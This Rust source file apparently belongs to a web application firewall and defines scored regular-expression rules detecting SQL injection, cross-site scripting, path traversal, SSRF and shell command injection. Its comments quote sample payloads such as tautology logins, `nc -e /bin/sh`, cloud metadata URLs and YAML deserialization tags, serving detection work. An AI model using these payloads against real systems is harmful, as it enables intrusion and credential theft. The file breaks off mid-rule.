//! The pattern rules: each names an attack family, a score and a regular expression over one
//! canonical form of the value. Rules of one form are compiled into a single `RegexSet`, so a
//! value is scanned once per form however many rules there are; only rules that matched are
//! run again to find the fragment for the log.
//!
//! Scores follow the anomaly model: 5 is conclusive on its own (the default threshold), lower
//! scores are signals that block only together. Patterns target the structure of an attack
//! (a separator followed by a command, a tag with a handler, a lookup naming a protocol),
//! not known payload strings.
//!
//! A set is searched by a lazy DFA with a cache of [`LAZY_DFA_CACHE_BYTES`] per thread; a
//! pattern that makes the set need more states than that makes every scan rebuild them, ten to
//! a thousand times slower, with every test still passing. Open-ended middles
//! (`'\s*or\b[^'"]*--$`) and Unicode classes in a repetition do it: `%[a-z_]\w*%` (a batch
//! variable) did, `%[a-z_][a-z0-9_]{0,30}%` does not, and a negated one (`[^.\w]`) made a set
//! too big for the cache to start with. The test `no_rule_set_outgrows_the_lazy_dfa_cache`
//! catches both; run `cargo run --release --example filter_cost` after changing a rule all the
//! same.

use regex::{Regex, RegexSet, RegexSetBuilder};

use super::Family;

/// Which canonical form of a value a rule reads (see [`super::fold`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Form {
    /// Decoded and lowercased.
    Plain,
    /// SQL comments folded.
    Sql,
    /// Shell quoting and separators folded.
    Shell,
    /// Log4j lookups resolved.
    Lookup,
    /// Tabs, line breaks and NULs removed, as browsers do inside URL schemes (`java\tscript:`).
    Markup,
}

pub struct Rule {
    pub id: &'static str,
    pub family: Family,
    pub score: u32,
    /// The forms the rule reads; a rule counts once however many forms match.
    pub forms: &'static [Form],
    pattern: &'static str,
    /// False for a rule that does not count what a prose value quotes as Markdown code
    /// ([`Rule::outside_quoted_code`]).
    reads_quoted_code: bool,
    /// A check of each match that the pattern cannot make without outgrowing the lazy DFA
    /// ([`Rule::confirmed_by`]).
    confirms: Option<fn(&str, &str, &str) -> bool>,
}

impl Rule {
    /// The rule counts only outside the Markdown code a prose value quotes (see
    /// [`super::quoted_code`]): for an attack that needs the whole value read as one thing,
    /// a path or a command, which a sentence with code in it is not.
    const fn outside_quoted_code(self) -> Rule {
        Rule {
            reads_quoted_code: false,
            ..self
        }
    }

    /// The rule counts only a match that `confirms` accepts, given the text before the match,
    /// the match and the text after it.
    const fn confirmed_by(self, confirms: fn(&str, &str, &str) -> bool) -> Rule {
        Rule {
            confirms: Some(confirms),
            ..self
        }
    }
}

const fn rule(
    id: &'static str,
    family: Family,
    score: u32,
    form: Form,
    pattern: &'static str,
) -> Rule {
    let forms: &'static [Form] = match form {
        Form::Plain => &[Form::Plain],
        Form::Sql => &[Form::Sql],
        Form::Shell => &[Form::Shell],
        Form::Lookup => &[Form::Lookup],
        Form::Markup => &[Form::Markup],
    };
    rule_in(id, family, score, forms, pattern)
}

const fn rule_in(
    id: &'static str,
    family: Family,
    score: u32,
    forms: &'static [Form],
    pattern: &'static str,
) -> Rule {
    Rule {
        id,
        family,
        score,
        forms,
        pattern,
        reads_quoted_code: true,
        confirms: None,
    }
}

use Family::*;
use Form::*;

/// A tautology's comparison after a parenthesis (`1) or 2>1`, `') or ('a'='a`), not a
/// formula's: `close > sma(200) or close < ema(50)` is a trading rule, whose `) or close <`
/// orders a name. After a parenthesis, a bare `<` or `>` counts only of a number or a string.
fn compares_values(_before: &str, found: &str, after: &str) -> bool {
    // The pattern's `[=<>!]=?` stops at the `<` of `<>` and `<=`.
    let orders = found.ends_with(['<', '>']) && !after.starts_with(['=', '>']);
    if !found.starts_with(')') || !orders {
        return true;
    }
    let operand = found[..found.len() - 1].trim_end().trim_end_matches(')');
    let operand = operand
        .rsplit(|c: char| c.is_whitespace() || c == '(')
        .next()
        .unwrap_or_default();
    operand.bytes().all(|b| b.is_ascii_digit()) || operand.ends_with(['\'', '"', '`'])
}

/// Whether a statement found after `before` is where a query would run it: opening the value
/// (also a value of a raw `name=value` body), or after what ends an injected string, number or
/// statement (`'; alter table`, `1 alter table`, which SQL Server runs without a `;`). After a
/// word it is a sentence about SQL (`Fix a bug that prevents ALTER TABLE ... RENAME`), which
/// no query parses.
fn follows_a_breakout(before: &str, _found: &str, _after: &str) -> bool {
    let ends_a_breakout = |text: &str| {
        text.trim_end().bytes().next_back().is_none_or(|last| {
            matches!(last, b';' | b'\'' | b'"' | b'`' | b')' | b'=') || last.is_ascii_digit()
        })
    };
    // A line comment between the two (`x';-- x\nalter table`, `1;#x\nalter table`) ends at a
    // line break, which the SQL form has made a space: what comes before any comment counts
    // too.
    let bytes = before.as_bytes();
    let mut comments = memchr::memchr2_iter(b'#', b'-', bytes)
        .filter(|&at| bytes[at] == b'#' || bytes.get(at + 1) == Some(&b'-'));
    ends_a_breakout(before) || comments.any(|at| ends_a_breakout(&before[..at]))
}

/// Whether a command found between pipes does more than a Markdown table's cell naming a
/// program and its version (`| OpenSSL 3.0 | yes |`, `| python 3.12 | fast |`), which an
/// assistant's answer holds and a chat client resends with every turn. Such a cell has spaces
/// inside its pipes and a line's start or a space before it, and a version has at most three
/// parts: run, the program opens a file of that name or fails. A number is an attack's
/// argument for the commands it makes act (`| sleep 5 |`, a delay probe; `| ping 10.0.0.1 |`
/// has four parts), and those count.
fn runs_more_than_a_version_cell(before: &str, found: &str, _after: &str) -> bool {
    const ACT_ON_A_NUMBER: [&str; 5] = ["sleep", "usleep", "timeout", "ping", "kill"];
    let Some(cell) = found
        .strip_prefix('|')
        .and_then(|found| found.strip_suffix('|'))
        .filter(|cell| cell.starts_with(' ') && cell.ends_with(' '))
    else {
        return true;
    };
    let mut words = cell.split_whitespace();
    let (Some(command), Some(version), None) = (words.next(), words.next(), words.next()) else {
        return true;
    };
    let is_version = version.split('.').count() <= 3
        && version
            .split('.')
            .all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()));
    let in_a_row = before.is_empty() || before.ends_with([' ', '\t', '\n']);
    !(in_a_row && is_version && !ACT_ON_A_NUMBER.contains(&command))
}

/// The PHP functions that run code, read files or decode payloads: called with code in
/// them, or alone as a probe (`php-exec-function`).
macro_rules! php_functions {
    () => {
        concat!(
            php_command_functions!(),
            "|eval|assert|create_function|call_user_func(?:_array)?|base64_decode|gzinflate|str_rot13|file_get_contents|file_put_contents|fopen|show_source|highlight_file|phpinfo|unserialize"
        )
    };
}

/// The PHP functions that run a shell command.
macro_rules! php_command_functions {
    () => {
        "system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec"
    };
}

/// What follows `/*!` when it opens MySQL's executable comment, whose content MySQL runs
/// (`/*!50000union*/`, `/*!select*/`, `/*!and 1=1*/`): a version, or SQL. The same opener
/// starts a banner in minified JavaScript and CSS (`/*! jQuery v3.6.0 | (c) OpenJS */`) and
/// an inner doc comment in Rust (`/*! Crate docs */`). A macro so that the rule and
/// libinjection's reading ([`super::structural`]) share it.
macro_rules! mysql_executable_code {
    () => {
        r#"(?:\d{5}|\d*\s*(?:(?:union|select|from|where|having|order\s+by|group\s+by|limit|insert|update|delete|drop|null|information_schema)\b|(?:and|or|xor|not|&&|\|\|)\s*(?:[\d'"(@!~-]|(?:true|false|null|not|select)\b)|(?:concat|char|version|user|database|schema|sleep|benchmark|if|ascii|substr\w*)\s*\(|['"(@=<>]))"#
    };
}
pub(super) use mysql_executable_code;

/// Every pattern rule. Texts are decoded and lowercased before matching.
static RULES: &[Rule] = &[
    // SQL injection (besides the libinjection tokenizer, which covers tautologies and most
    // quote-breaking forms).
    rule(
        "sqli-union-select",
        Sqli,
        5,
        Sql,
        r"\bunion\b[\s(]*(?:all\b|distinct\b)?[\s(]*select\b[\s(]*(?:\*|\d|null\b|@@|'|\x22|0x|(?:char|concat|group_concat|version|database|user)\s*\(|[\w.`]+\s*(?:,|\bfrom\b|--|#))",
    ),
    rule(
        "sqli-time-delay",
        Sqli,
        5,
        Sql,
        // `sleep((select …))`, `sleep(if(…))`, `sleep(mod(10,5))` anywhere. `sleep(5)` with a
        // bare number is also a program's pause (`time.sleep(5)`, `Thread.sleep(1000);`, "why
        // does sleep(5) not pause my script?"): it counts after SQL (`1 and sleep(5)`,
        // `'+sleep(5)`, `=sleep(5)`), before it (`sleep(5)#`, `sleep(5) and 1`) or as the whole
        // value, never as a method. Prose `sleep (8 hours)` passes: the number must close the
        // call, unless the call is joined to a closed quote (`x'+sleep(20.to_i)+'`).
        r"\b(?:sleep|pg_sleep)\s*\(\s*(?:\(|@|(?:select|case)\s*[\s(]|(?:if|mod|rand|floor|ceil|abs|length|ascii|ord)\s*\()|(?:\b(?:and|or|xor|not|select|if|then|else|when)\s+|[=(+,|&'\x22{-]\s*)(?:sleep|pg_sleep)\s*\(\s*[\d.]+\s*\)|(?:^|[ \t\r\n(=,;'\x22+|&{}-])(?:sleep|pg_sleep)\s*\(\s*[\d.]+\s*\)(?:#|\s*(?:$|--|\)|=|\+|\|\||&&|\b(?:and|or|xor)\b))|\bbenchmark\s*\(\s*\d+\s*,|(?:\b(?:and|or|xor)\s+|[=(+,|&'\x22-]\s*)get_lock\s*\(\s*['\x22][^'\x22]*['\x22]\s*,\s*\d|\brandomblob\s*\(\s*\d|\bwaitfor\s+(?:delay|time)\s+'|\bdbms_(?:lock\.sleep|pipe\.receive_message)\s*\(|['\x22]\s*(?:\+|\|\||&&|\.)?\s*(?:sleep|pg_sleep|benchmark)\(",
    ),
    rule(
        "sqli-file-or-command",
        Sqli,
        5,
        Sql,
        r"\bload_file\s*\(|\blo_(?:import|export|get|put)\s*\(|\binto\s+(?:out|dump)file\b|\butl_(?:http|inaddr|file)\.|\bxp_(?:cmdshell|dirtree|regread)\b|\bsp_(?:oacreate|execute|makewebtask)\b|\bopenrowset\s*\(|\bcopy\s+\w+\s+(?:from|to)\s+program\b",
    ),
    rule(
        "sqli-stacked-query",
        Sqli,
        5,
        Sql,
        // A statement after `;`, or a value that opens by closing the app's string into a
        // `;` (`';`, `');#`, `';print'`), which no prose opens with. `SHUTDOWN` ends the
        // value or the statement (`; shutdown --`), an `UPDATE` sets a column (`; update
        // users set role='admin'`): "Thanks; shutdown the old one" and "OK; update the
        // settings" are sentences.
        r"^\s*['\x22]\s*\)*\s*;|;\s*(?:drop\s+(?:table|database|schema|user|view|function)|truncate\s+table|alter\s+(?:table|user)|create\s+(?:table|user|database|function)|insert\s+into|delete\s+from|update\s+[\w.]+\s+set\s+[\w.]+\s*=|exec(?:ute)?\s+(?:master|xp_|sp_|\()|declare\s+@|shutdown\s*(?:$|--|#|;|/\*|['\x22]|with\s+nowait\b)|select\s+.*\bfrom\b)",
    ),
    rule(
        "sqli-subquery",
        Sqli,
        5,
        Sql,
        r"\(\s*select\s+(?:\*|@@|top\s+\d|count\s*\(|(?:distinct\s+)?[\w.`]+\s*(?:,|\bfrom\b)|\(?\s*case\s+when\b|\w+\s*\(\s*(?:\d|'|@@|select\b|\*\s*\)|\)|\w+\s*\())",
    ),
    // SELECT straight into a function only SQL has (`select char(113)`, `SELECT GROUP_CONCAT(`,
    // `select user()`): the probes of sqlmap and friends. English "select user (admin)" has
    // no empty call.
    rule(
        "sqli-select-function",
        Sqli,
        5,
        Sql,
        r"\bselect\s+(?:(?:char|chr|group_concat|concat_ws|concat|pg_sleep|sleep|benchmark|load_file|substring|substr|ascii|unhex|hex|md5|sha1|extractvalue|updatexml)\s*\(|(?:user|current_user|system_user|session_user|database|schema|version)\s*\(\s*\)|@@\w+|pg_sleep\b)|\bprocedure\s+analyse\s*\(",
    ),
    // Schema changes and routines: statements no form field carries, where a query would run
    // them (`follows_a_breakout`).
    rule(
        "sqli-ddl",
        Sqli,
        5,
        Sql,
        r"\balter\s+table\s+[\w`.\x22\[\]]+\s+(?:add|change|drop|modify|rename|alter)\b|\bcreate\s+(?:or\s+replace\s+)?(?:function|procedure|trigger)\s+[\w`.]+\s*\(",
    )
    .confirmed_by(follows_a_breakout),
    rule(
        "sqli-catalog",
        Sqli,
        4,
        Sql,
        r"\binformation_schema\b|\bsysobjects\b|\bsyscolumns\b|\bmysql\.(?:user|db)\b|\bpg_(?:catalog|shadow|user)\b|\bsqlite_master\b|\ball_(?:tables|users)\b|@@(?:version|datadir|hostname)\b",
    ),
    rule(
        "sqli-error-function",
        Sqli,
        5,
        Sql,
        r"\b(?:extractvalue|updatexml|exp\s*\(\s*~|geometrycollection|multipoint|polygon|linestring)\s*\(\s*(?:\d|\(|'|select\b|concat)",
    ),
    rule(
        "sqli-quote-comment",
        Sqli,
        5,
        Sql,
        // A quote closed into a comment: at the end (`admin'--`, `') #`), or right against it
        // (`1'/*`, `x'-- -`). Prose quotes a `#` (`press '#'`) or dashes after a quote with a
        // space (`'great' -- really`).
        r#"['"`]\s*\)*\s*(?:--|#)[\s-]*$|'(?:--(?:[\s-]|$)|#(?:[^'\w\s]|$)|/\*)"#,
    ),
    rule(
        "sqli-quote-logic-call",
        Sqli,
        5,
        Sql,
        // A quote closed into `or`/`and` and a function call, the rest of the query cut off by
        // a comment or ended (`x' or f(id)--`, `' and user_fn (1)#`, `x' or json_valid (id);`):
        // any function the database has, known to the tokenizer or not. The call touches its
        // parenthesis or has a name of code (`snake_case`); prose puts a space before a
        // parenthesis of words (`'red' or blue (your call) --`). A quote, a logic word and a
        // parenthesis that all touch (`'or(id glob 1)`) are never prose.
        r"'\s*(?:or|and|xor|\|\||&&)\s+(?:not\s+)?(?:[a-z_][a-z0-9_$]*_[a-z0-9_$]*\s*|[a-z_][a-z0-9_$]*)\([^()]*\)\s*(?:--|#|;)[\s-]*$|'(?:or|and|xor)\(",
    ),
    rule(
        "sqli-order-probe",
        Sqli,
        5,
        Sql,
        r#"['"\d)]\s*(?:order|group)\s+by\s+\d+\s*(?:--|#|;|$)|^\s*(?:order|group)\s+by\s+\d+\s*(?:--|#)"#,
    ),
    // A closed string joined by logic to a comparison (`' or 'a'='a`, `') and 1 like 1`; see
    // `compares_values` after a parenthesis), a number compared with a number (`or 1=1`), or like or between numbers at the end or before a
    // comment (`and 1 like 1`, `or 1 between 1 and 1--`: sqlmap's `equaltolike` and `between`
    // for `1=1`).
    rule(
        "sqli-boolean-tautology",
        Sqli,
        5,
        Sql,
        r#"['"`)]\s*(?:or|and|xor|\|\||&&)\s+(?:not\s+)?\(*(?:['"`]\w*['"`]|\w+)\)*\s*(?:[=<>!]=?|<>|\blike\s+['"`%]|\bis\s+(?:not\s+)?null\b|\bin\s*\(\s*(?:\d|['"`]|select\b)|\bbetween\s+(?:\d|['"`])|\bregexp\b|\brlike\b)|\b(?:or|and)\s+(\d+)\s*==?\s*\d+\b|\b(?:or|and)\s+\d+\s+(?:r?like|regexp|between\s+\d+\s+and)\s+\d+\s*(?:$|--|#|;)"#,
    )
    .confirmed_by(compares_values),
    // `admin'='`, `x'-'`, `x'='x`: a closing quote, an operator, and a quote the query's own
    // closes, after at most a word, at the end of the value: `user = 'admin'=''` compares the
    // comparison, true for every other row (the classic login bypass list). Prose does not
    // end on an operator between quotes glued to a word; code does in a string literal with a
    // prefix (Python's `sep = b'-'`, `r'|'`), so a word of one or two letters ending in `r`,
    // `b`, `f` or `u` does not count. Read in the plain form: the SQL form's `+`-as-space
    // would make `r'|' +` end on the quote.
    rule(
        "sqli-quote-operator-quote",
        Sqli,
        5,
        Plain,
        r#"(?:^|(?:^|[^\w.@])[\w.@]*[\w.@&&[^rbfu]]|[\w.@]{3})'\s*[-=&^*|]\s*'[a-z0-9_]*\s*$"#,
    ),
    rule(
        "sqli-mysql-comment",
        Sqli,
        5,
        Plain,
        concat!(r"/\*!", mysql_executable_code!()),
    ),
    // A JSON document in quotes as an operand of SQL's JSON operators, which WAFs that do not
    // parse them let through (Team82's bypass, CRS 942550): `'{"b":2}'::jsonb <@ '{…}'`,
    // `'[1,2]' ? '1'`, `'{…}' -> '$.c[2].f' = 7`, `json_extract('{…}', '$.name')`. Read in the
    // SQL form, whose comments are spaces (`JSON_EXTRACT/**/(/**/'{…}'`).
    rule(
        "sqli-json-operator",
        Sqli,
        5,
        Sql,
        r#"'\s*[\[{][^']*[\]}]\s*'\s*(?:::\s*jsonb?\b|@>|<@|\?[|&]?\s+(?:'|array\s*\[)|->>?|#>>?|#-|@\?|@@|[<>]=?\s*'|-\s*\d)|\bjson_(?:extract|value|query|contains)\s*\(\s*'\s*[\[{]"#,
    ),
    // An inline comment standing for the space next to an SQL keyword, with nothing between
    // them (`SeLeCt/**/password/**/FrOm/**/users`, sqlmap's `space2comment`): a filter
    // evasion, since code and prose that comment put a space around the comment.
    rule(
        "sqli-comment-as-space",
        Sqli,
        5,
        Plain,
        r"\b(?:select|union|from|where|insert|update|delete|drop|order|group|having|and|or|not|sleep|benchmark|waitfor|exec)/\*[^*]*\*/[\w@('\x22]|[\w)'\x22]/\*[^*]*\*/(?:select|union|from|where|and|or|order|group|having|sleep|benchmark|waitfor|exec)\b",
    ),
    rule(
        "sqli-char-chain",
        Sqli,
        4,
        Sql,
        r"\b(?:char|chr|nchar)\s*\(\s*\d+\s*\)\s*(?:\+|\|\||,)\s*(?:char|chr|nchar)\s*\(",
    ),
    // Cross-site scripting (besides libinjection's HTML5 tokenizer).
    rule("xss-script-tag", Xss, 5, Plain, r"<\s*/?\s*script\b"),
    rule(
        "xss-event-handler",
        Xss,
        5,
        Plain,
        r#"(?:<[a-z!?/][^>]*?[\s/"'`]|^\s*|["'`]\s*)on(?:abort|activate|after|animation|aux|before|begin|blur|bounce|can|change|click|close|context|copy|cue|cut|dbl|drag|drop|durationchange|emptied|end|error|finish|focus|form|fullscreen|hash|input|invalid|key|load|message|mouse|move|offline|online|page|paste|pause|play|pointer|popstate|progress|rate|readystate|repeat|reset|resize|scroll|search|seek|select|show|stalled|start|storage|submit|suspend|timeupdate|toggle|touch|transition|unload|volume|waiting|wheel)[a-z]*\s*="#,
    ),
    rule(
        "xss-script-uri",
        Xss,
        5,
        Markup,
        r#"(?:^|[\s"'`=(,<:])(?:java|vb|live)script\s*:\s*(?:[\w$.]+\s*[(`=\[]|[/'"(\[{!~+%-])|(?:href|src|action|formaction|data|xlink:href|background|poster|codebase)\s*=\s*["'`]?\s*(?:java|vb|live)script\s*:"#,
    ),
    rule(
        "xss-html-data-uri",
        Xss,
        5,
        Plain,
        r"data:\s*(?:text/html|text/xml|image/svg\+xml|application/(?:x-)?(?:xhtml\+xml|html|javascript|ecmascript))\s*[;,]",
    ),
    rule(
        "xss-embedding-tag",
        Xss,
        4,
        Plain,
        r"<\s*(?:iframe|frame|frameset|object|embed|applet|base|meta|link|svg|math|isindex|portal|xss|import)\b",
    ),
    rule(
        "xss-css-script",
        Xss,
        5,
        Plain,
        r":\s*expression\s*\(|-moz-binding\s*:|\bbehavior\s*:\s*url\s*\(|@import\s+['\x22]?\s*(?:java|vb)script:",
    ),
    // A sink after a quote or a statement ends (`';alert(1)//`), in a template literal's
    // expression (`${alert(1)}`), or reached through a constructor in an AngularJS
    // expression (`{{$on.constructor('alert(1)')()}}`). `self` and `this` after a closed
    // string count only with what a payload reaches through them (`'+self.location=…`):
    // code joins strings to its own fields (`sign + 'NaN' + self._int`, `'Hi ' + this.name`).
    rule(
        "xss-js-sink-after-break",
        Xss,
        5,
        Plain,
        r#"["'`]\s*(?:[;,)+\-*|&]|\}\s*;?)\s*(?:alert|prompt|confirm|eval|settimeout|setinterval|fetch|import)\s*[(`]|["'`]\s*[;,)+]\s*(?:(?:document|window|top|parent)\s*[.\[]|(?:self|this)\s*(?:\[|\.\s*(?:location|document|constructor|alert|prompt|confirm|eval|fetch|open|postmessage|opener)\b))|;\s*(?:alert|prompt|confirm)(?:\(\s*[^)\s]|`)|\$\{\s*(?:alert|prompt|confirm|eval)\s*[(`]|\{\{[^}]*\.\s*constructor\s*\("#,
    ),
    rule_in(
        "xss-js-probe",
        Xss,
        4,
        // The SQL form too: it reads `document/**/.cookie` as `document .cookie`.
        &[Plain, Sql],
        r"\b(?:alert|prompt|confirm)(?:\(\s*(?:\d|document|window|origin|['`])|`)|\bdocument\s*\.\s*(?:cookie|domain|write)\b|\bstring\s*\.\s*fromcharcode\s*\(|\bsrcdoc\s*=",
    ),
    // A function called by a tagged template, which needs no parentheses: `[].sort.call`…``,
    // `Reflect.apply.call`…`` (a prompt template's `${prompt}` is no call). A sentence that
    // opens with the word before a code span (``1. Call `connect` ``) spaces both sides,
    // but never puts a space before its full stop (`[] . sort . call `…``).
    rule(
        "xss-js-tagged-call",
        Xss,
        5,
        Plain,
        r"(?:\.|\s\.\s*)(?:call|apply|bind)\s*`|\.\s+(?:call|apply|bind)`",
    ),
    // Script reached through a global by name: `window["alert"](…)`, `(document)["cookie"]`,
    // or by a name built or decoded in the brackets and called: `window['ale'+'rt'](1)`,
    // `top[/al/.source+/ert/.source](1)`, `self[atob('YWxlcnQ=')](1)`.
    rule_in(
        "xss-js-global-index",
        Xss,
        5,
        &[Plain, Sql],
        r#"\b(?:document|window|self|top|parent|frames|globalthis)\s*\)?\s*\[\s*(?:['"`]\s*(?:alert|prompt|confirm|eval|cookie|domain|document|location|\$|\\x24|globaleval|constructor)\b|['"`/][^\]\n]*\+[^\]\n]*\]\s*\(|(?:atob|unescape|decodeuricomponent|string\.fromcharcode)\s*\()"#,
    ),
    // Markup only old Internet Explorer ran: VML frames and HTML components.
    rule(
        "xss-legacy-markup",
        Xss,
        5,
        Plain,
        r"<\s*(?:v:)?vmlframe\b|<\?import\b",
    ),
    // Comments hiding a property access of a browser global: `document/**/.cookie`.
    rule(
        "xss-js-comment-split",
        Xss,
        5,
        Plain,
        r"\b(?:document|window|self|top|parent)\s*(?:(?:/\*[^*]*\*/\s*)+[.\[]|[.\[]\s*(?:/\*[^*]*\*/\s*)+)",
    ),
    // JSFuck: JavaScript written with only `[]()!+`.
    rule(
        "xss-jsfuck",
        Xss,
        5,
        Plain,
        r"(?:[\[\]()!+]*(?:!\[\]|\+\[\])){3}",
    ),
    // UTF-7 markup (`+ADw-script+AD4-`), which old browsers decoded.
    rule("xss-utf7", Xss, 5, Plain, r"\+adw-.{0,40}\+ad4-"),
    // Path traversal and local file inclusion.
    rule(
        "lfi-traversal",
        Lfi,
        5,
        Plain,
        r"\.{2,}[\\/]+\.{2,}[\\/]|\.\.\.[\\/]\.[\\/]|\.\.;[\\/]|\.\.[\\/]+\.[a-z]|[\\/]\.\.[\\/]|(?:^|[=:])\.\.[\\/]+[\w.-]*$",
    )
    // A relative path in code a question or an answer quotes (`` import from `../../lib` ``)
    // is no path the app opens; a sensitive file at its end still counts, by the rules below.
    .outside_quoted_code(),
    rule(
        "lfi-traversal-step",
        Lfi,
        3,
        Plain,
        r"(?:^|[\s=:])\.\.[\\/]",
    ),
    rule_in(
        "lfi-sensitive-file",
        Lfi,
        4,
        &[Plain, Shell],
        r"(?:^|[\\/\s=:])(?:etc[\\/](?:passwd|shadow|group|gshadow|hosts|issue|motd|master\.passwd|sudoers|crontab|environment|subuid|subgid|fstab|resolv\.conf|profile|bashrc|(?:nginx|apache2|httpd|mysql|ssh|php\d?)[\\/])|proc[\\/](?:self|\d+|net|version|cpuinfo|meminfo|mounts|interrupts|sched_debug|kcore)\b|sys[\\/](?:class|kernel|devices|block|firmware|module|power)\b|windows[\\/](?:win\.ini|system32|system\.ini)|boot\.ini\b|win\.ini\b|\.htaccess\b|\.htpasswd\b|\.ssh[\\/]|id_(?:rsa|dsa|ecdsa|ed25519)\b|web-inf[\\/]|meta-inf[\\/]|\.git[\\/]|\.svn[\\/]|\.aws[\\/]|\.docker[\\/]|\.kube[\\/]|\.npmrc\b|\.netrc\b|\.pgpass\b|\.env(?:\.\w+)?$|\.bash_history|wp-config\.php|var[\\/]log[\\/]|root[\\/])",
    ),
    // A value that is nothing but a path into the system's directories, as a file parameter
    // carries it (`/etc/passwd`, `c:\boot.ini`, `/proc/self/environ%00.jpg`), also through a
    // drive's administrative share (`\\localhost\c$\windows\win.ini`). A sentence that
    // opens with such a path (`/etc/nginx/nginx.conf has a syntax error`) is a question
    // about it; the file named still counts, by `lfi-sensitive-file`.
    rule_in(
        "lfi-absolute-sensitive",
        Lfi,
        5,
        &[Plain, Shell],
        r"^\s*(?:file:/+)?(?:\\\\[?.]\\(?:[a-z]:)?|\\\\[\w.-]+\\[a-z]\$|[a-z]:)?[\\/]+(?:(?:etc|proc|sys|root|dev|var[\\/]log|windows|inetpub)[\\/]|boot\.ini\b)\S*\s*$",
    ),
    // XInclude pulls a file into an XML document that the app parses: as good as XXE where
    // entities are disabled.
    rule(
        "lfi-xinclude",
        Lfi,
        5,
        Plain,
        r"<\s*xi\s*:\s*include\b[^>]*\bhref\s*=",
    ),
    // YAML tags that make a deserializer build an object of any class: Python's
    // `!!python/object/apply:os.system`, Ruby's `!ruby/object:`, and SnakeYAML's gadget classes.
    rule(
        "rce-yaml-object-tag",
        Rce,
        5,
        Plain,
        r"!!python/(?:object(?:/apply|/new)?|name|module)\s*:|!ruby/(?:object|hash|struct|class)\s*:|!!(?:javax\.script\.scriptenginemanager|com\.sun\.rowset\.jdbcrowsetimpl|java\.net\.urlclassloader)\b",
    ),
    // Remote file inclusion and server-side request forgery. Java's URL class also reads a
    // scheme behind `url:` (`url:file:///etc/passwd`), and Python's urllib read
    // `local_file://` as `file://` (CVE-2019-9948).
    rule(
        "rfi-dangerous-scheme",
        Rfi,
        5,
        Plain,
        r"^\s*(?:url:\s*)?(?:file:/|local_file:|gopher://|dict://|ldaps?://|jar:|netdoc:|tftp://|sftp://|glob://|ssh2\.\w+://|compress\.(?:zlib|bzip2)://|ogg://|rar://)",
    ),
    // The cloud metadata services (AWS, also its container endpoint `169.254.170.2`; GCP;
    // Azure; Alibaba; Oracle's `192.0.0.192`), which hand out the host's credentials, and the
    // API server a Kubernetes pod reaches by name (`http://kubernetes.default.svc/api/v1/
    // secrets`): as a URL, a value or a parameter's, or the last word or a path after a space
    // (`curl 169.254.169.254/latest/meta-data`). A sentence that names the address goes on in
    // words after it (`the metadata server at 169.254.169.254 is unreachable`).
    rule(
        "rfi-metadata-endpoint",
        Rfi,
        5,
        Plain,
        r"//(?:instance-data|kubernetes\.default(?:\.svc(?:\.cluster\.local)?)?)(?:[:/?#]|$)|(?:^|[=@/])(?:169\.254\.169\.254|169\.254\.170\.2|192\.0\.0\.192|metadata\.google\.internal|100\.100\.100\.200|\[?fd00:ec2::254\]?|metadata\.azure\.com)\b|\s(?:169\.254\.169\.254|169\.254\.170\.2|192\.0\.0\.192|metadata\.google\.internal|100\.100\.100\.200|\[?fd00:ec2::254\]?|metadata\.azure\.com)(?:[:/?#]|\s*$)|(?://|@)(?:2852039166|0xa9fea9fe|\[(?:0*:)*:?ffff:(?:169\.254\.169\.254|a9fe:a9fe)\])(?:[:/?#]|$)",
    ),
    // A URL to this host in any spelling, as the whole value (a field the app fetches), or
    // before a line break (a request smuggled after it). A message that opens with a local
    // URL is a question about it ("http://localhost:8080/ returns 404, why?").
    rule(
        "rfi-loopback-url",
        Rfi,
        5,
        Plain,
        r"^\s*(?:https?|ftp)://(?:[^/@]*@)?(?:127(?:\.\d+){1,3}|(?:[a-z0-9-]+\.)*(?:localhost|localtest\.me|lvh\.me|vcap\.me)\.?|(?:[a-z0-9-]+[.-])*127[.-]\d+[.-]\d+[.-]\d+\.(?:nip|sslip|xip)\.io|0|0\.0\.0\.0|0x7f[0-9a-f]*(?:\.(?:0x)?[0-9a-f]+){0,3}|2130706433|0177[0-7.]*|\[(?:0*:)*:?0*1?\]|\[(?:0*:)*:?ffff:(?:127\.[0-9.]+|7f[0-9a-f]{2}:[0-9a-f]{1,4})\])(?:[:/?#]\S*)?[ \t]*(?:$|[\r\n])",
    ),
    rule(
        "rfi-ip-url",
        Rfi,
        3,
        Plain,
        r"^\s*(?:https?|ftps?)://(?:[^/@]*@)?(?:\d{1,3}(?:\.\d{1,3}){3}|\[[0-9a-f:.]+\])(?:[:/?#]|$)",
    ),
    // A URL of a script a server runs (`http://66.240.183.75/crash.php`) or of code kept as
    // text to be included (`…/shell.txt`): a link to one is ordinary, a signal that blocks
    // with an address for a host or a truncating `?` after it.
    rule(
        "rfi-remote-script",
        Rfi,
        2,
        Plain,
        r"^\s*(?:https?|ftps?)://[^?#\s]+\.(?:php\d?|phtml|jsp|aspx?|txt|pl|cgi)(?:[?#]|$)",
    ),
    rule(
        "rfi-url-truncation",
        Rfi,
        3,
        Plain,
        r"^\s*(?:https?|ftps?)://[^?#\s]+(?:\?+|#)$",
    ),
    // A host of an out-of-band testing service (Burp Collaborator, interactsh, dnslog): a
    // scanner's probe for blind SSRF, XXE, command or Log4Shell injection calls home to a
    // fresh subdomain of one. The bare service name, as prose mentions it, has none.
    rule(
        "rfi-oast-domain",
        Rfi,
        5,
        Plain,
        r"[a-z0-9-]\.(?:burpcollaborator\.net|oastify\.com|oast\.(?:me|pro|fun|live|site|online)|interact\.sh|interactsh\.com|dnslog\.cn|ceye\.io|bxss\.me|xss\.ht)\b",
    ),
    // OS command injection, read through the shell's own quoting rules.
    rule(
        "rce-separator-command",
        Rce,
        5,
        Shell,
        shell_patterns::SEPARATOR_COMMAND,
    )
    .confirmed_by(runs_more_than_a_version_cell),
    rule(
        "rce-substitution",
        Rce,
        5,
        Shell,
        shell_patterns::SUBSTITUTION,
    ),
    rule(
        "rce-leading-command",
        Rce,
        3,
        Shell,
        shell_patterns::LEADING_COMMAND,
    ),
    // A shell's path where a command line runs it: the whole value, after a separator or `=`,
    // after a flag (`nc -e /bin/sh`) or a word that runs its argument (`exec`, `sudo`), or
    // with a flag or a redirection after it (`/bin/sh -i`, `/bin/sh <&196`). Prose names a
    // shell between words ("compatible with ancient /bin/sh", "use /bin/bash to work around").
    rule(
        "rce-shell-path",
        Rce,
        5,
        Shell,
